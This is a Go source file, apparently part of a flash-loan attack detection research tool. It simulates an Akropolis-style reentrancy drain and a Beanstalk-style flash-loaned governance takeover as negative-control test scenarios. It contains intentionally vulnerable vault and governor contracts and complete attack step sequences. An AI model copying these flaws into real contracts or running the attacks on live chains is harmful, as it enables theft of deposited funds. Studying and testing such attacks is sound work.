@@ -1,0 +1,285 @@
+package attacks
+
+import (
+	"leishen/internal/evm"
+	"leishen/internal/flashloan"
+	"leishen/internal/types"
+	"leishen/internal/uint256"
+)
+
+// This file reproduces the paper's *non-price-manipulation* flash loan
+// attacks (§III-C): half of the 44 studied attacks exploit ordinary
+// contract vulnerabilities with flash-loaned capital instead of moving
+// prices. LeiShen deliberately does not flag them — they are the negative
+// controls that separate "flash loan attack" from "flpAttack".
+//
+// Two archetypes are implemented:
+//
+//   - reentrancy (the Akropolis attack): a vault credits deposits after
+//     notifying the depositor, so a reentrant deposit is counted twice;
+//   - governance (the Beanstalk attack): voting power is read from the
+//     current token balance, so flash-loaned tokens pass a malicious
+//     proposal within one transaction.
+
+// ReentrantVault is an ETH savings vault with the classic DAO-shaped
+// bug: withdrawAll sends the Ether *before* zeroing the depositor's
+// credit, and the ETH send hands control to the recipient — a reentrant
+// withdrawAll drains someone else's deposits.
+type ReentrantVault struct{}
+
+var _ evm.Contract = (*ReentrantVault)(nil)
+
+func rvCreditKey(a types.Address) string { return "credit:" + a.String() }
+
+// Call dispatches the vulnerable vault.
+func (v *ReentrantVault) Call(env *evm.Env, method string, args []any) ([]any, error) {
+	switch method {
+	case "deposit":
+		if env.Value().IsZero() {
+			return nil, evm.Revertf("deposit: zero value")
+		}
+		env.SSet(rvCreditKey(env.Caller()), env.SGet(rvCreditKey(env.Caller())).MustAdd(env.Value()))
+		return nil, nil
+	case "withdrawAll":
+		credit := env.SGet(rvCreditKey(env.Caller()))
+		if credit.IsZero() {
+			return nil, evm.Revertf("no credit")
+		}
+		// BUG: interaction before effect. The ETH transfer invokes the
+		// recipient, which can re-enter while the credit is still set.
+		if err := env.TransferETH(env.Caller(), credit); err != nil {
+			return nil, err
+		}
+		env.SSet(rvCreditKey(env.Caller()), uint256.Zero())
+		return []any{credit}, nil
+	case "creditOf":
+		who, err := evm.AddrArg(args, 0)
+		if err != nil {
+			return nil, err
+		}
+		return []any{env.SGet(rvCreditKey(who))}, nil
+	case "":
+		return nil, nil // accept honest deposits' change
+	default:
+		return nil, evm.Revertf("reentrant vault: unknown method %q", method)
+	}
+}
+
+// Governance is a balance-weighted on-chain governor with the Beanstalk
+// flaw: voting power is the *current* token balance, with no snapshot or
+// timelock, so flash-loaned tokens carry a proposal instantly.
+type Governance struct {
+	// GovToken is the voting token.
+	GovToken types.Token
+	// Treasury is the asset a malicious proposal can drain.
+	Treasury types.Token
+	// QuorumPct of the gov token supply must vote for.
+	QuorumPct uint64
+}
+
+var _ evm.Contract = (*Governance)(nil)
+
+// Call dispatches the governor.
+func (g *Governance) Call(env *evm.Env, method string, args []any) ([]any, error) {
+	switch method {
+	case "proposeDrain":
+		// proposeDrain(to): proposal #N pays the whole treasury to `to`.
+		to, err := evm.AddrArg(args, 0)
+		if err != nil {
+			return nil, err
+		}
+		id := env.SGet("proposals").MustAdd(uint256.One())
+		env.SSet("proposals", id)
+		env.SSetAddr("target:"+id.String(), to)
+		return []any{id}, nil
+	case "vote":
+		id, err := evm.AmountArg(args, 0)
+		if err != nil {
+			return nil, err
+		}
+		// BUG: weight = live balance, no snapshot.
+		weight, err := evm.Ret0[uint256.Int](env.Call(g.GovToken.Address, "balanceOf", uint256.Zero(), env.Caller()))
+		if err != nil {
+			return nil, err
+		}
+		key := "votes:" + id.String()
+		env.SSet(key, env.SGet(key).MustAdd(weight))
+		return nil, nil
+	case "execute":
+		id, err := evm.AmountArg(args, 0)
+		if err != nil {
+			return nil, err
+		}
+		votes := env.SGet("votes:" + id.String())
+		supply, err := evm.Ret0[uint256.Int](env.Call(g.GovToken.Address, "totalSupply", uint256.Zero()))
+		if err != nil {
+			return nil, err
+		}
+		quorum := supply.MustMulDiv(uint256.FromUint64(g.QuorumPct), uint256.FromUint64(100))
+		if votes.Lt(quorum) {
+			return nil, evm.Revertf("execute: %s votes below quorum %s", votes, quorum)
+		}
+		target := env.SGetAddr("target:" + id.String())
+		if target.IsZero() {
+			return nil, evm.Revertf("execute: unknown proposal")
+		}
+		bal, err := evm.Ret0[uint256.Int](env.Call(g.Treasury.Address, "balanceOf", uint256.Zero(), env.Self()))
+		if err != nil {
+			return nil, err
+		}
+		env.SSet("votes:"+id.String(), uint256.Zero())
+		if _, err := env.Call(g.Treasury.Address, "transfer", uint256.Zero(), target, bal); err != nil {
+			return nil, err
+		}
+		return []any{bal}, nil
+	default:
+		return nil, evm.Revertf("governance: unknown method %q", method)
+	}
+}
+
+// StepReentrantDrain unwraps the flash-borrowed WETH, deposits the ETH
+// into the vulnerable vault, and withdraws with one reentrant hop —
+// collecting the credit twice — before wrapping everything back.
+func StepReentrantDrain(vaultAddr types.Address, weth types.Token, amount uint256.Int) Step {
+	return func(env *evm.Env) error {
+		// Unwrap the borrowed WETH into ETH.
+		if _, err := env.Call(weth.Address, "withdraw", uint256.Zero(), amount); err != nil {
+			return err
+		}
+		if _, err := env.Call(vaultAddr, "deposit", amount); err != nil {
+			return err
+		}
+		// Arm exactly one reentrant withdrawal, then trigger.
+		env.SSetAddr("reent:vault", vaultAddr)
+		env.SSet("reent:armed", uint256.One())
+		if _, err := env.Call(vaultAddr, "withdrawAll", uint256.Zero()); err != nil {
+			return err
+		}
+		env.SSet("reent:armed", uint256.Zero())
+		// Wrap all ETH back into WETH for repayment and sweep.
+		bal := env.BalanceOf(env.Self())
+		_, err := env.Call(weth.Address, "deposit", bal)
+		return err
+	}
+}
+
+// HandleReentrancyHook runs when the attack contract receives plain ETH:
+// if armed, re-enter the vault's withdrawAll once.
+func HandleReentrancyHook(env *evm.Env) error {
+	if env.SGet("reent:armed").IsZero() {
+		return nil
+	}
+	env.SSet("reent:armed", uint256.Zero())
+	vaultAddr := env.SGetAddr("reent:vault")
+	_, err := env.Call(vaultAddr, "withdrawAll", uint256.Zero())
+	return err
+}
+
+// StepGovernanceDrain runs the Beanstalk composition: propose, vote with
+// the flash-loaned balance, execute the treasury drain.
+func StepGovernanceDrain(gov types.Address) Step {
+	return func(env *evm.Env) error {
+		id, err := evm.Ret0[uint256.Int](env.Call(gov, "proposeDrain", uint256.Zero(), env.Self()))
+		if err != nil {
+			return err
+		}
+		if _, err := env.Call(gov, "vote", uint256.Zero(), id); err != nil {
+			return err
+		}
+		_, err = env.Call(gov, "execute", uint256.Zero(), id)
+		return err
+	}
+}
+
+// RunReentrancyAttack builds and executes the Akropolis-style scenario,
+// returning the result for negative-control tests.
+func RunReentrancyAttack() (*Result, error) {
+	env, err := NewEnv(scenarioGenesis)
+	if err != nil {
+		return nil, err
+	}
+	vaultAddr, err := env.Chain.Deploy(env.Deployer, &ReentrantVault{}, "Akropolis: Savings")
+	if err != nil {
+		return nil, err
+	}
+	// Honest ETH deposits the exploit drains.
+	env.Chain.FundETH(vaultAddr, env.WETH.Units("5000"))
+	contract := &AttackContract{
+		Loan: LoanSpec{
+			Provider: flashloan.ProviderDydx,
+			Lender:   env.DydxSolo,
+			Token:    env.WETH,
+			Amount:   env.WETH.Units("2000"),
+		},
+		Steps:        []Step{StepReentrantDrain(vaultAddr, env.WETH, env.WETH.Units("2000"))},
+		ProfitTokens: []types.Token{env.WETH},
+	}
+	eoa, addr, err := env.NewAttacker(contract)
+	if err != nil {
+		return nil, err
+	}
+	receipt, err := env.ExecuteAttack(eoa, addr)
+	if err != nil {
+		return nil, err
+	}
+	profit, err := balanceOf(env, env.WETH, eoa)
+	if err != nil {
+		return nil, err
+	}
+	return &Result{Env: env, Receipt: receipt, AttackerEOA: eoa, AttackContract: addr, ProfitToken: env.WETH, Profit: profit}, nil
+}
+
+// RunGovernanceAttack builds and executes the Beanstalk-style scenario.
+func RunGovernanceAttack() (*Result, error) {
+	env, err := NewEnv(scenarioGenesis)
+	if err != nil {
+		return nil, err
+	}
+	gov := env.NewToken("STALK", 18, "Beanstalk: Stalk Token")
+	govAddr, err := env.Chain.Deploy(env.Deployer, &Governance{
+		GovToken:  gov,
+		Treasury:  env.USDC,
+		QuorumPct: 50,
+	}, "Beanstalk: Governor")
+	if err != nil {
+		return nil, err
+	}
+	if err := env.fund(govAddr, env.USDC, "10000000"); err != nil {
+		return nil, err
+	}
+	// Circulating gov supply held by a market-making pair the attacker
+	// can flash-borrow from.
+	govPair, err := env.NewPair(env.WETH, "1000", gov, "1000000", "Uniswap: STALK Pool")
+	if err != nil {
+		return nil, err
+	}
+	contract := &AttackContract{
+		Loan: LoanSpec{
+			Provider:  flashloan.ProviderUniswap,
+			Lender:    govPair,
+			Token:     gov,
+			PairOther: env.WETH,
+			Amount:    gov.Units("800000"), // 80% of supply: clears quorum
+			FeeBps:    35,
+		},
+		Steps:        []Step{StepGovernanceDrain(govAddr)},
+		ProfitTokens: []types.Token{env.USDC},
+	}
+	eoa, addr, err := env.NewAttacker(contract)
+	if err != nil {
+		return nil, err
+	}
+	// The flash fee is paid in gov tokens.
+	if err := env.fund(addr, gov, "3000"); err != nil {
+		return nil, err
+	}
+	receipt, err := env.ExecuteAttack(eoa, addr)
+	if err != nil {
+		return nil, err
+	}
+	profit, err := balanceOf(env, env.USDC, eoa)
+	if err != nil {
+		return nil, err
+	}
+	return &Result{Env: env, Receipt: receipt, AttackerEOA: eoa, AttackContract: addr, ProfitToken: env.USDC, Profit: profit}, nil
+}
